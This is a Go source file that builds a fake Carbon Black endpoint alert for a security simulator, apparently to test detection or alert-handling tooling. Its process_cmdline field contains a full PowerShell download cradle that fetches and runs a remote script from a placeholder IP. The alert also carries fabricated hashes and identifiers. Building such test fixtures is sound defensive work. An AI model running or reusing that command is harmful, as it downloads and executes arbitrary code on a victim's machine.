package carbonblack

import (
	"encoding/json"
	"strconv"
)

// NewAlert returns a CB_ANALYTICS alert (Alerts v7) about a PowerShell
// download cradle on the device, of the given severity (1–10), for
// injecting into a simulator. It has no id or timestamps: the simulator
// assigns them.
func NewAlert(deviceID int64, deviceName string, severity int) []byte {
	a := map[string]any{
		"org_key":             SimOrgKey,
		"type":                "CB_ANALYTICS",
		"severity":            severity,
		"reason":              "The application powershell.exe attempted to download and run a script.",
		"reason_code":         "R_NET_DOWNLOAD",
		"threat_id":           "6f1c2b0e9d8a4c3b2a1f0e9d8c7b6a5f",
		"policy_applied":      "NOT_APPLIED",
		"run_state":           "RAN",
		"sensor_action":       "ALLOW",
		"workflow":            map[string]any{"status": "OPEN"},
		"device_id":           deviceID,
		"device_name":         deviceName,
		"device_os":           "WINDOWS",
		"device_os_version":   "Windows 11 x64",
		"device_username":     "corp\\alice",
		"device_internal_ip":  "10.1.2.3",
		"device_external_ip":  "198.51.100.7",
		"ttps":                []string{"MITRE_T1059_001_POWERSHELL", "MITRE_T1105_INGRESS_TOOL_TRANSFR"},
		"attack_tactic":       "TA0002",
		"process_guid":        SimOrgKey + "-" + strconv.FormatInt(deviceID, 16) + "-00001a2c",
		"process_pid":         6700,
		"process_name":        "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
		"process_sha256":      "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
		"process_cmdline":     "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"",
		"process_username":    "CORP\\alice",
		"parent_pid":          4410,
		"parent_name":         "c:\\windows\\explorer.exe",
		"parent_sha256":       "0d6b3a5bd4a6f3f4b9b1e7e0c2a0f3c5e6d7c8b9a0f1e2d3c4b5a69788796a5b",
		"netconn_remote_ip":   "203.0.113.9",
		"netconn_remote_port": 80,
		"device_policy":       "Standard",
	}
	b, _ := json.Marshal(a)
	return b
}
